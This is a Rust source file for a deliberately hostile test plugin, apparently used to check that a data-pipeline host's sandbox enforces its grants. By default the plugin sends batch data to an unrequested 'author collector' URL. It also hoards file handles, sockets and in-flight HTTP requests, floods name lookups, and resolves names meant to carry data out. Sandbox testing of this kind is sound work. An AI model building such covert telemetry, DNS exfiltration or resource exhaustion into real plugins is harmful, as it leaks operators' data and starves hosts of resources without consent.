//! A hostile test sink that takes what nobody granted it on purpose: it sends every batch to the
//! telemetry URL its manifest defaults to, and at open it hoards descriptors (the same granted
//! file opened again and again, TCP connections, `wasi:http` requests left in flight, name
//! lookups by the thousand and of names nobody granted). It
//! journals each outcome, so the tests can check what the host let through.

use std::fs::{File, OpenOptions};
use std::io::Write;

use oort_sdk::serde::Deserialize;
use oort_sdk::{Batch, Context, Sink, SinkError, export_sink};
use wasip2::http::outgoing_handler::{FutureIncomingResponse, handle};
use wasip2::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};

/// The action's props.
#[derive(Debug, Deserialize)]
#[serde(
    crate = "oort_sdk::serde",
    rename_all = "camelCase",
    deny_unknown_fields
)]
pub struct Config {
    /// The journal file (granted by the manifest).
    pub journal: String,
    /// Where every batch is sent: the sink author's collector unless the rule says otherwise
    /// (the manifest has the same default).
    #[serde(default = "author_collector")]
    pub telemetry_url: Option<String>,
    /// A granted read-only file to open `hoard_count` times at open, keeping every handle.
    #[serde(default)]
    pub hoard: Option<String>,
    /// How many times to open `hoard`.
    #[serde(default)]
    pub hoard_count: u32,
    /// A `host:port` to connect to `connect_count` times at open, keeping every connection.
    #[serde(default)]
    pub connect: Option<String>,
    /// How many connections to open to `connect`.
    #[serde(default)]
    pub connect_count: u32,
    /// A URL to start `requests` requests to at open, left in flight.
    #[serde(default)]
    pub hold: Option<String>,
    /// How many requests to start to `hold`.
    #[serde(default)]
    pub requests: u32,
    /// A name to look up `lookup_count` times at open, each lookup left unread.
    #[serde(default)]
    pub lookup: Option<String>,
    /// How many lookups of `lookup` to start.
    #[serde(default)]
    pub lookup_count: u32,
    /// Names to look up (and read the answers of) at open, e.g. ones carrying data out.
    #[serde(default)]
    pub exfiltrate: Vec<String>,
}

/// The sink author's own server, which the operator never named.
pub const AUTHOR_COLLECTOR: &str = "http://127.77.0.1:18080/telemetry";

fn author_collector() -> Option<String> {
    Some(AUTHOR_COLLECTOR.to_string())
}

/// The sink's state: the config and everything it hoards.
pub struct Greedy {
    config: Config,
    journal: Option<File>,
    files: Vec<File>,
    sockets: Vec<std::net::TcpStream>,
    in_flight: Vec<FutureIncomingResponse>,
}

impl Greedy {
    fn note(&mut self, line: &str) -> Result<(), SinkError> {
        if self.journal.is_none() {
            self.journal = Some(
                OpenOptions::new()
                    .create(true)
                    .append(true)
                    .open(&self.config.journal)
                    .map_err(|e| SinkError::transient(format!("journal: {e}")))?,
            );
        }
        if let Some(journal) = self.journal.as_mut() {
            writeln!(journal, "{line}")?;
            journal.flush()?;
        }
        Ok(())
    }

    /// Opens `hoard` again and again; notes how many opened and the first refusal.
    fn hoard_files(&mut self) -> Result<(), SinkError> {
        let Some(path) = self.config.hoard.clone() else {
            return Ok(());
        };
        let mut refused = None;
        for _ in 0..self.config.hoard_count {
            match File::open(&path) {
                Ok(file) => self.files.push(file),
                Err(e) => {
                    refused = Some(e.to_string());
                    break;
                }
            }
        }
        let opened = self.files.len();
        self.note(&format!(
            "files opened {opened} refused {}",
            refused.unwrap_or_else(|| "none".into())
        ))
    }

    /// Connects to `connect` again and again; notes how many connected and the first refusal.
    fn hoard_sockets(&mut self) -> Result<(), SinkError> {
        let Some(addr) = self.config.connect.clone() else {
            return Ok(());
        };
        let mut refused = None;
        for _ in 0..self.config.connect_count {
            match std::net::TcpStream::connect(addr.as_str()) {
                Ok(stream) => self.sockets.push(stream),
                Err(e) => {
                    refused = Some(e.to_string());
                    break;
                }
            }
        }
        let opened = self.sockets.len();
        self.note(&format!(
            "sockets opened {opened} refused {}",
            refused.unwrap_or_else(|| "none".into())
        ))
    }

    /// Starts `requests` requests to `hold` and leaves them in flight.
    fn hoard_requests(&mut self) -> Result<(), SinkError> {
        let Some(url) = self.config.hold.clone() else {
            return Ok(());
        };
        let mut refused = None;
        for _ in 0..self.config.requests {
            match start_get(&url) {
                Ok(pending) => self.in_flight.push(pending),
                Err(e) => {
                    refused = Some(e);
                    break;
                }
            }
        }
        // The host answers a refused request at once, through its future: wait until no more
        // answers come for a while, then count what is still in flight.
        let mut open: Vec<usize> = (0..self.in_flight.len()).collect();
        while !open.is_empty() {
            let quiet = wasip2::clocks::monotonic_clock::subscribe_duration(2_000_000_000);
            let pollables: Vec<_> = open
                .iter()
                .map(|&i| self.in_flight[i].subscribe())
                .collect();
            let mut all: Vec<&wasip2::io::poll::Pollable> = pollables.iter().collect();
            all.push(&quiet);
            let ready = wasip2::io::poll::poll(&all);
            if ready.iter().all(|&r| r as usize == pollables.len()) {
                break;
            }
            let ready: std::collections::HashSet<usize> =
                ready.into_iter().map(|r| open[r as usize]).collect();
            open.retain(|i| !ready.contains(i));
        }
        let mut answered = 0;
        for pending in &self.in_flight {
            if let Some(outcome) = pending.get() {
                answered += 1;
                if refused.is_none()
                    && let Ok(Err(code)) = outcome
                {
                    refused = Some(format!("{code:?}"));
                }
            }
        }
        self.note(&format!(
            "requests started {} in flight {} refused {answered} {}",
            self.in_flight.len(),
            self.in_flight.len() - answered,
            refused.unwrap_or_else(|| "none".into())
        ))
    }
}

impl Greedy {
    /// Starts `lookup_count` lookups of `lookup` (dropping each unread, so the resource table
    /// never fills), then reads one answer; notes how many started and that answer.
    fn flood_lookups(&mut self) -> Result<(), SinkError> {
        let Some(name) = self.config.lookup.clone() else {
            return Ok(());
        };
        let network = wasip2::sockets::instance_network::instance_network();
        let mut started = 0;
        let mut refused = None;
        for _ in 0..self.config.lookup_count {
            match wasip2::sockets::ip_name_lookup::resolve_addresses(&network, &name) {
                Ok(_unread) => started += 1,
                Err(e) => {
                    refused = Some(format!("{e:?}"));
                    break;
                }
            }
        }
        let answer = resolve(&name);
        self.note(&format!(
            "lookups started {started} refused {} answer {answer:?}",
            refused.unwrap_or_else(|| "none".into())
        ))
    }
}

/// Looks `name` up and reads the whole answer.
fn resolve(name: &str) -> Result<Vec<String>, String> {
    use wasip2::sockets::ip_name_lookup::resolve_addresses;
    use wasip2::sockets::network::{ErrorCode, IpAddress};
    let network = wasip2::sockets::instance_network::instance_network();
    let stream = resolve_addresses(&network, name).map_err(|e| format!("{e:?}"))?;
    let mut ips = Vec::new();
    loop {
        match stream.resolve_next_address() {
            Ok(Some(IpAddress::Ipv4((a, b, c, d)))) => ips.push(format!("{a}.{b}.{c}.{d}")),
            Ok(Some(IpAddress::Ipv6(v6))) => ips.push(format!("{v6:?}")),
            Ok(None) => return Ok(ips),
            Err(ErrorCode::WouldBlock) => stream.subscribe().block(),
            Err(e) => return Err(format!("{e:?}")),
        }
    }
}

/// Starts a GET to an `http://host:port/path` URL without waiting for the answer.
fn start_get(url: &str) -> Result<FutureIncomingResponse, String> {
    let rest = url
        .strip_prefix("http://")
        .ok_or_else(|| "bad url".to_string())?;
    let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
    let request = OutgoingRequest::new(Fields::new());
    let _ = request.set_method(&Method::Get);
    let _ = request.set_scheme(Some(&Scheme::Http));
    let _ = request.set_authority(Some(authority));
    let _ = request.set_path_with_query(Some(if path.is_empty() { "/" } else { path }));
    let body = request.body().map_err(|()| "no body".to_string())?;
    let pending = handle(request, None).map_err(|code| format!("{code:?}"))?;
    let _ = OutgoingBody::finish(body, None);
    Ok(pending)
}

/// Sends a GET and waits for its status.
fn get(url: &str) -> String {
    let pending = match start_get(url) {
        Ok(pending) => pending,
        Err(e) => return format!("refused ({e})"),
    };
    pending.subscribe().block();
    match pending.get() {
        Some(Ok(Ok(response))) => format!("status {}", response.status()),
        Some(Ok(Err(code))) => format!("refused ({code:?})"),
        _ => "lost".into(),
    }
}

impl Sink for Greedy {
    type Config = Config;

    fn configure(_ctx: &Context, config: Config) -> Result<Self, SinkError> {
        Ok(Self {
            config,
            journal: None,
            files: Vec::new(),
            sockets: Vec::new(),
            in_flight: Vec::new(),
        })
    }

    fn open(&mut self) -> Result<(), SinkError> {
        self.note("open")?;
        self.hoard_files()?;
        self.hoard_sockets()?;
        self.hoard_requests()?;
        self.flood_lookups()?;
        for name in self.config.exfiltrate.clone() {
            let outcome = resolve(&name);
            self.note(&format!("lookup {name}: {outcome:?}"))?;
        }
        Ok(())
    }

    fn collect(&mut self, batch: &Batch) -> Result<(), SinkError> {
        if let Some(url) = self.config.telemetry_url.clone() {
            let outcome = get(&format!("{url}?rows={}", batch.len()));
            self.note(&format!("telemetry {outcome}"))?;
        }
        Ok(())
    }

    fn close(&mut self) -> Result<(), SinkError> {
        self.in_flight.clear();
        self.sockets.clear();
        self.files.clear();
        self.note("close")
    }
}

export_sink!(Greedy);
